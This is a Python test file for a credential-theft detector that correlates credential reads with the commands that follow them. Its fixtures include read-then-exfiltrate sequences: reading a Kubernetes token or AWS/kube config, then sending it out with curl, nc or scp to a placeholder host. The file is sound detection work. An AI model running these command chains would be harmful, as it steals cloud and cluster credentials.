"""Correlation: what ran before and after a credential read, in bounded memory."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from typing import Any

from credwatch.triage.correlate import Correlator

from .helpers import auditd, defend, run_triage

SA = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def _by_args(alerts: list[dict[str, Any]], first: str) -> dict[str, Any]:
    return next(a for a in alerts if a["process.args"][0] == first)


def test_followup_exfil_by_a_sibling_of_the_same_shell() -> None:
    events = [
        defend(["cat", SA], t=0, pid=101),
        defend(["curl", "-d", "@/tmp/t", "https://203.0.113.9/"], t=3, pid=102),
        defend(["ls"], t=4, pid=103),
    ]
    [alert] = run_triage(events, window=120)
    assert alert["credwatch.triage.followup_exfil"] is True
    related = alert["credwatch.triage.related"]
    curl = next(r for r in related if r["process"] == "curl")
    assert curl["when"] == "after" and curl["relation"] == "sibling" and curl["delta_s"] == 3.0
    assert "upload" not in curl["categories"] and "exfil" in curl["categories"]
    assert "network" in curl["categories"]
    assert "network" in alert["credwatch.triage.followup_categories"]
    assert any("+15 network" in f for f in alert["credwatch.triage.score_factors"])
    assert any("curl" in s for s in alert["credwatch.triage.next_steps"])


def test_followup_score_is_higher_than_the_same_read_alone() -> None:
    alone = run_triage([defend(["cat", SA], t=0, pid=101)])[0]
    chased = run_triage([defend(["cat", SA], t=0, pid=101),
                         defend(["nc", "203.0.113.9", "9"], t=1, pid=102)])[0]
    assert alone["credwatch.triage.followup_exfil"] is False
    assert chased["credwatch.triage.score"] == alone["credwatch.triage.score"] + 15


def test_other_hosts_other_sessions_and_late_events_are_not_related() -> None:
    events = [
        defend(["cat", SA], t=0, pid=101),
        defend(["curl", "-T", "x", "ftp://h/"], t=1, pid=201, host="other-node"),
        defend(["curl", "-T", "x", "ftp://h/"], t=2, pid=202, ppid=9999,
               **{"process.session_leader.pid": 9999, "process.session_leader.entity_id": "s2"}),
        defend(["curl", "-T", "x", "ftp://h/"], t=200, pid=203),  # after the 120 s window
    ]
    [alert] = run_triage(events, window=120)
    assert alert["credwatch.triage.followup_exfil"] is False
    assert [r["pid"] for r in alert["credwatch.triage.related"]] == []
    assert alert["credwatch.triage.correlation"]["complete"] is True


def test_auditd_session_links_commands_with_different_parents() -> None:
    events = [
        auditd(["cat", "/root/.aws/credentials"], t=0, pid=300, ppid=10, ses="7"),
        auditd(["scp", "/tmp/c", "eve@203.0.113.9:/tmp/"], t=5, pid=301, ppid=20, ses="7"),
        auditd(["scp", "/tmp/c", "eve@203.0.113.9:/tmp/"], t=6, pid=302, ppid=30, ses="8"),
    ]
    [alert] = run_triage(events)
    rel = alert["credwatch.triage.related"]
    assert [(r["pid"], r["relation"]) for r in rel] == [(301, "same-session")]
    assert alert["credwatch.triage.followup_exfil"] is True


def test_unset_audit_session_does_not_link_daemons() -> None:
    unset = "4294967295"
    events = [
        auditd(["cat", "/root/.aws/credentials"], t=0, pid=300, ppid=10, ses=unset, auid=unset),
        auditd(["curl", "-T", "x", "ftp://h/"], t=1, pid=301, ppid=20, ses=unset, auid=unset),
    ]
    [alert] = run_triage(events)
    assert alert["credwatch.triage.related"] == []
    assert alert["credwatch.triage.user"]["login_session"] is False


def test_parent_exec_and_ancestors_reveal_expected_automation_in_auditd() -> None:
    events = [
        auditd(["/usr/bin/python3", "/usr/bin/ansible-playbook", "site.yml"], t=0, pid=50,
               ppid=1, ses="3"),
        auditd(["/bin/sh", "-c", "cat /root/.kube/config"], t=1, pid=60, ppid=50, ses="3"),
        auditd(["cat", "/root/.kube/config"], t=1.1, pid=61, ppid=60, ses="3"),
    ]
    [alert] = run_triage(events)
    before = [(r["pid"], r["relation"], r["when"]) for r in alert["credwatch.triage.related"]]
    assert (60, "parent", "before") in before and (50, "same-session", "before") in before
    anc: list[dict[str, Any]] = alert["credwatch.triage.correlation"]["ancestors"]
    assert [a["pid"] for a in anc] == [60, 50]
    assert alert["credwatch.triage.likely_benign"] is True
    assert "ansible-playbook" in alert["credwatch.triage.benign_reason"]
    assert "sh (pid 60)" in alert["credwatch.triage.summary"]
    # Without correlation the same alert has only a ppid: nothing says Ansible.
    [plain] = run_triage(events, correlate=False)
    assert plain["credwatch.triage.likely_benign"] is False


def test_alerts_wait_for_their_window_then_leave_in_order() -> None:
    c = Correlator(window=10)
    a1: dict[str, Any] = {"n": 1}
    a2: dict[str, Any] = {"n": 2}
    e1 = defend(["cat", SA], t=0, pid=1)
    e2 = defend(["cat", SA], t=5, pid=2)
    assert c.observe(e1) == [] and c.add_alert(a1, e1) == []
    assert c.observe(e2) == [] and c.add_alert(a2, e2) == []
    assert c.observe(defend(["ls"], t=10, pid=3)) == []  # deadline 10 is not yet passed
    assert [a["n"] for a in c.observe(defend(["ls"], t=10.5, pid=4))] == [1]
    assert c.pending() == 1
    assert [a["n"] for a in c.flush()] == [2]
    assert a2["credwatch.triage.correlation"]["complete"] is False


def test_release_by_wall_clock_when_input_is_quiet() -> None:
    c = Correlator(window=10)
    e = defend(["cat", SA], t=0, pid=1)
    c.observe(e)
    c.add_alert({}, e)
    assert c.release() == []
    from credwatch.alerts.build import parse_event_time
    t0 = parse_event_time(e["@timestamp"])
    assert t0 is not None
    assert len(c.release(now=t0.timestamp() + 11)) == 1


def test_zero_window_releases_at_once() -> None:
    c = Correlator(window=0)
    e = defend(["cat", SA], t=0, pid=1)
    c.observe(e)
    assert len(c.add_alert({}, e)) == 1


def test_max_pending_releases_the_oldest_early() -> None:
    c = Correlator(window=1000, max_pending=3)
    released: list[dict[str, Any]] = []
    for i in range(5):
        e = defend(["cat", SA], t=i, pid=10 + i)
        c.observe(e)
        released += c.add_alert({"n": i}, e)
    assert [a["n"] for a in released] == [0, 1] and c.pending() == 3
    assert all(a["credwatch.triage.correlation"]["complete"] is False for a in released)


def test_related_list_is_capped() -> None:
    events = [defend(["cat", SA], t=0, pid=1)] + [
        defend(["curl", "https://x/"], t=1 + i * 0.01, pid=100 + i) for i in range(100)]
    [alert] = run_triage(events, max_related=7)
    assert len(alert["credwatch.triage.related"]) == 7


def _tiny(n: int, start: int = 0) -> Iterator[dict[str, Any]]:
    base = 1796124794000  # epoch ms
    for i in range(start, start + n):
        yield {"@timestamp": base + i, "host.name": f"h{i % 3000}", "process.pid": i,
               "process.parent.pid": 1, "process.name": "true",
               "process.args": ["true", "x" * (i % 500)]}


def _deep_size(c: Correlator) -> int:
    """Bytes held by the correlator's buffers (containers, summaries and their strings)."""
    total = sys.getsizeof(c._hosts) + sys.getsizeof(c._pending)
    for host, buf in c._hosts.items():
        total += sys.getsizeof(host) + sys.getsizeof(buf)
        for s in buf:
            total += sys.getsizeof(s) + sum(sys.getsizeof(x) for x in s[2:7] if x is not None)
            total += sys.getsizeof(s.args) + sum(sys.getsizeof(a) for a in s.args)
    return total


def test_one_million_events_stay_bounded() -> None:
    c = Correlator(window=120, max_per_host=64, max_hosts=100, max_pending=50)
    sizes = []
    for i, ev in enumerate(_tiny(1_000_000)):
        c.observe(ev)
        if i % 10_000 == 0:
            c.add_alert({"i": i}, ev)
        if i % 200_000 == 199_999:
            assert c.buffered() <= 64 * 100 and c.hosts() <= 100 and c.pending() <= 50
            sizes.append(_deep_size(c))
    # Arguments of up to 500 bytes are cut to 200 characters; 6400 summaries at most.
    assert max(sizes) < 6400 * 1200, sizes
    assert sizes[-1] <= sizes[0] * 1.1, sizes  # flat, not growing with the input
    buf = next(iter(c._hosts.values()))
    assert all(len(a) <= 200 for s in buf for a in s.args)
    # 1M events at 1 ms = 1000 s of event time: alerts of the last 120 s are still held.
    held = c.pending()
    assert 0 < held <= 13
    assert len(c.flush()) == held and c.pending() == 0
